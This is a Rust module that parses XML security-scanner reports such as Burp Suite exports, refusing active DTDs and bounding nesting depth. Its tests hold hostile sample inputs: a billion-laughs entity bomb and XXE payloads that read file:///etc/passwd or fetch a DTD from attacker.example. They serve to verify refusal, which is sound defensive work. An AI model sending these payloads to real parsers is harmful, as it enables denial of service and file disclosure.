//! Reading XML reports safely: no entity is ever declared or expanded and no
//! external file is ever read; nesting is bounded; then the document is
//! deserialized into the format's serde types.
//!
//! A document type declaration is refused unless it is inert: an internal
//! subset of element and attribute-list declarations and comments only, as
//! Burp Suite writes at the top of every export. Anything that could define
//! or pull in content is refused: an external id (`SYSTEM`, `PUBLIC`),
//! `<!ENTITY`, `<!NOTATION`, processing instructions, parameter-entity (`%`)
//! and entity (`&`) references. The deserializer never expands entities
//! beyond XML's five predefined ones whatever the DTD says; this rule keeps
//! hostile documents out before they get that far.

use std::io::Read;

use quick_xml::events::Event;
use serde::de::DeserializeOwned;

use crate::{Limits, ParseError, input, json};

/// Reads the whole report, checks it and deserializes it as `T`.
pub(crate) fn document<T: DeserializeOwned>(
    reader: &mut dyn Read,
    limits: &Limits,
    format: &'static str,
) -> Result<T, ParseError> {
    let text = input::read_all(reader, limits.max_bytes).map_err(|e| json::io_error(e, limits))?;
    check(&text, limits)?;
    let mut xml = quick_xml::de::Deserializer::from_str(&text);
    serde_path_to_error::deserialize(&mut xml).map_err(|error| {
        let path = error.path().to_string();
        ParseError::Report {
            format,
            path: if path.is_empty() { ".".into() } else { path },
            message: error.into_inner().to_string(),
        }
    })
}

/// Walks the document once: it must be well-formed, declare no DTD other
/// than an inert one (see the module's doc) and nest no deeper than the
/// limit.
pub(crate) fn check(text: &str, limits: &Limits) -> Result<(), ParseError> {
    let mut reader = quick_xml::Reader::from_str(text);
    reader.config_mut().check_end_names = true;
    let line_at = |position: u64| {
        let end = usize::try_from(position).unwrap_or(usize::MAX).min(text.len());
        1 + text.get(..end).map_or(0, |t| t.matches('\n').count()) as u64
    };
    let mut depth = 0usize;
    let mut roots = 0usize;
    loop {
        let start = reader.buffer_position();
        let event = reader.read_event().map_err(|error| ParseError::Xml {
            line: line_at(reader.error_position()),
            message: format!("invalid XML: {error}"),
        })?;
        match event {
            Event::DocType(doctype) => {
                let inert = is_inert_doctype(doctype.as_ref());
                if !inert || roots > 0 {
                    return Err(ParseError::Doctype { line: line_at(start) });
                }
            }
            Event::Start(_) => {
                if depth == 0 {
                    roots += 1;
                }
                depth += 1;
                if depth > limits.max_depth {
                    return Err(ParseError::TooDeepXml {
                        limit: limits.max_depth,
                        line: line_at(reader.buffer_position()),
                    });
                }
            }
            Event::Empty(_) if depth == 0 => roots += 1,
            Event::End(_) => depth = depth.saturating_sub(1),
            Event::Eof => break,
            _ => {}
        }
    }
    if roots == 0 {
        return Err(ParseError::Xml { line: 1, message: "the document has no element".into() });
    }
    if depth > 0 {
        return Err(ParseError::Xml {
            line: line_at(text.len() as u64),
            message: "unexpected end of file: elements are not closed".into(),
        });
    }
    Ok(())
}

/// Whether a DOCTYPE's content (what follows `<!DOCTYPE`) is a root name
/// and at most an internal subset of element and attribute-list
/// declarations and comments.
fn is_inert_doctype(content: &str) -> bool {
    let Some(open) = content.find('[') else {
        // `<!DOCTYPE html>`: a name and nothing else, no external id.
        return content.split_whitespace().count() == 1;
    };
    let (head, rest) = (content.get(..open).unwrap_or(""), content.get(open + 1..).unwrap_or(""));
    let Some(close) = rest.rfind(']') else { return false };
    let (subset, tail) = (rest.get(..close).unwrap_or(""), rest.get(close + 1..).unwrap_or(""));
    head.split_whitespace().count() == 1 && tail.trim().is_empty() && declarations_are_inert(subset)
}

/// Whether an internal subset holds only `<!ELEMENT` and `<!ATTLIST`
/// declarations without references, and comments.
fn declarations_are_inert(subset: &str) -> bool {
    let mut rest = subset.trim_start();
    while !rest.is_empty() {
        if let Some(comment) = rest.strip_prefix("<!--") {
            let Some(end) = comment.find("-->") else { return false };
            rest = comment.get(end + 3..).unwrap_or("");
        } else if rest.starts_with("<!ELEMENT") || rest.starts_with("<!ATTLIST") {
            let Some(end) = declaration_end(rest) else { return false };
            if rest.get(..end).is_none_or(|declaration| declaration.contains(['%', '&'])) {
                return false;
            }
            rest = rest.get(end + 1..).unwrap_or("");
        } else {
            return false;
        }
        rest = rest.trim_start();
    }
    true
}

/// The index of the `>` that ends a declaration, skipping quoted values.
fn declaration_end(declaration: &str) -> Option<usize> {
    let mut quote = None;
    for (at, c) in declaration.char_indices() {
        match (quote, c) {
            (None, '"' | '\'') => quote = Some(c),
            (Some(open), c) if c == open => quote = None,
            (None, '>') => return Some(at),
            _ => {}
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    const LAUGHS: &str = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>"#;

    const EXTERNAL: &str = r#"<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<foo>&xxe;</foo>"#;

    #[derive(Debug, serde::Deserialize)]
    struct Foo {
        #[serde(rename = "$text", default)]
        #[allow(dead_code)]
        text: String,
    }

    #[test]
    fn a_billion_laughs_is_refused_by_its_doctype() {
        let err = document::<Foo>(&mut LAUGHS.as_bytes(), &Limits::default(), "test").unwrap_err();
        assert!(matches!(err, ParseError::Doctype { line: 2 }), "{err}");
        assert!(err.to_string().contains("DTD"), "{err}");
    }

    #[test]
    fn an_external_entity_is_never_read() {
        let err =
            document::<Foo>(&mut EXTERNAL.as_bytes(), &Limits::default(), "test").unwrap_err();
        assert!(matches!(err, ParseError::Doctype { .. }), "{err}");
        // Even without its declaration, an undefined entity is not expanded.
        let bare = "<foo>&xxe;</foo>";
        let err = document::<Foo>(&mut bare.as_bytes(), &Limits::default(), "test").unwrap_err();
        assert!(!err.to_string().contains("root:"), "{err}");
    }

    /// The declaration Burp Suite writes at the top of its XML exports.
    const BURP: &str = r#"<?xml version="1.0"?>
<!DOCTYPE issues [
<!ELEMENT issues (issue*)>
<!ATTLIST issues burpVersion CDATA "">
<!-- a comment may mention <!ENTITY x "y"> -->
<!ELEMENT issue (name, requestresponse*)>
<!ATTLIST request base64 (true|false) "false">
<!ATTLIST request note CDATA "a > b">
]>
<issues burpVersion="2.0"><issue>x</issue></issues>"#;

    #[test]
    fn a_doctype_of_element_and_attribute_declarations_is_read() {
        check(BURP, &Limits::default()).unwrap();
        check("<!DOCTYPE html><html/>", &Limits::default()).unwrap();
    }

    #[test]
    fn a_doctype_that_could_define_or_fetch_anything_is_refused() {
        let refused = [
            r#"<!DOCTYPE issues SYSTEM "http://attacker.example/x.dtd"><issues/>"#,
            r#"<!DOCTYPE issues PUBLIC "-//X//EN" "http://attacker.example/x.dtd"><issues/>"#,
            r#"<!DOCTYPE issues SYSTEM "x.dtd" [ <!ELEMENT issues ANY> ]><issues/>"#,
            r#"<!DOCTYPE issues [ <!ENTITY a "b"> ]><issues/>"#,
            r#"<!DOCTYPE issues [ <!ELEMENT issues ANY> <!ENTITY % p SYSTEM "file:///etc/passwd"> %p; ]><issues/>"#,
            r#"<!DOCTYPE issues [ %p; ]><issues/>"#,
            r#"<!DOCTYPE issues [ <!NOTATION n SYSTEM "x"> ]><issues/>"#,
            r#"<!DOCTYPE issues [ <?pi x?> ]><issues/>"#,
            r#"<!DOCTYPE issues [ <!ATTLIST issues a CDATA "&lol;"> ]><issues/>"#,
            r#"<!DOCTYPE issues [ <!ELEMENT issues ANY> ] junk><issues/>"#,
        ];
        for text in refused {
            let err = check(text, &Limits::default()).unwrap_err();
            assert!(matches!(err, ParseError::Doctype { line: 1 }), "{text}: {err}");
        }
    }

    #[test]
    fn nesting_is_bounded() {
        let deep = format!("{}{}", "<a>".repeat(200), "</a>".repeat(200));
        let err = check(&deep, &Limits::default()).unwrap_err();
        assert!(matches!(err, ParseError::TooDeepXml { limit: 128, line: 1 }), "{err}");
        let fine = format!("{}{}", "<a>".repeat(100), "</a>".repeat(100));
        check(&fine, &Limits::default()).unwrap();
    }

    #[test]
    fn broken_xml_names_its_line() {
        let err = check("<a>\n<b>\n</a>", &Limits::default()).unwrap_err();
        assert!(matches!(err, ParseError::Xml { line: 3, .. }), "{err}");
        let err = check("<a>\n<b>", &Limits::default()).unwrap_err();
        assert!(err.to_string().contains("not closed"), "{err}");
        let err = check("   ", &Limits::default()).unwrap_err();
        assert!(err.to_string().contains("no element"), "{err}");
    }
}
